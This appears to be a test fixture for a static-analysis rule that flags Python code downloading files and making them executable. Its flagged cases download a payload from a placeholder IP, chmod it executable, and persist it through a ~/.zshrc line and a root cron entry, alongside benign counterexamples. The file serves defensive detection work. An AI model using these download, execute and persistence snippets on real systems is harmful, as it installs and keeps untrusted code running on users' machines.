import os
import stat
import urllib.request
from pathlib import Path
from urllib.request import urlretrieve

import requests


def helper(place):
    body = urllib.request.urlopen("http://192.0.2.9/h").read()
    f = open(place, "wb")
    f.write(body)
    f.close()
    # ruleid: python-download-made-executable
    os.chmod(place, os.stat(place).st_mode | stat.S_IEXEC)


def second(url):
    with open("/opt/t", "wb") as out:
        out.write(requests.get(url).content)


def third(url, target):
    urlretrieve(url, target)
    # ruleid: python-download-made-executable
    os.chmod(target, 0o755)


def stay():
    rc = open(os.path.expanduser("~/.zshrc"), "a")
    # ruleid: python-download-made-executable
    rc.write("\n/opt/t &\n")


def again():
    with open("/etc/cron.d/t", "w") as table:
        # ruleid: python-download-made-executable
        table.write("* * * * * root /opt/t\n")


def private(place, url):
    with open(place, "wb") as out:
        out.write(requests.get(url).content)
    # ok: python-download-made-executable
    os.chmod(place, 0o600)


def own(place):
    with open(place, "w") as out:
        out.write("#!/bin/sh\n")
    # ok: python-download-made-executable
    os.chmod(place, 0o755)


def shown():
    with open(os.path.expanduser("~/.bashrc")) as rc:
        # ok: python-download-made-executable
        print(rc.read())


def listed(path):
    with open(path, "a") as table:
        # ok: python-download-made-executable
        table.write("a;b\n")
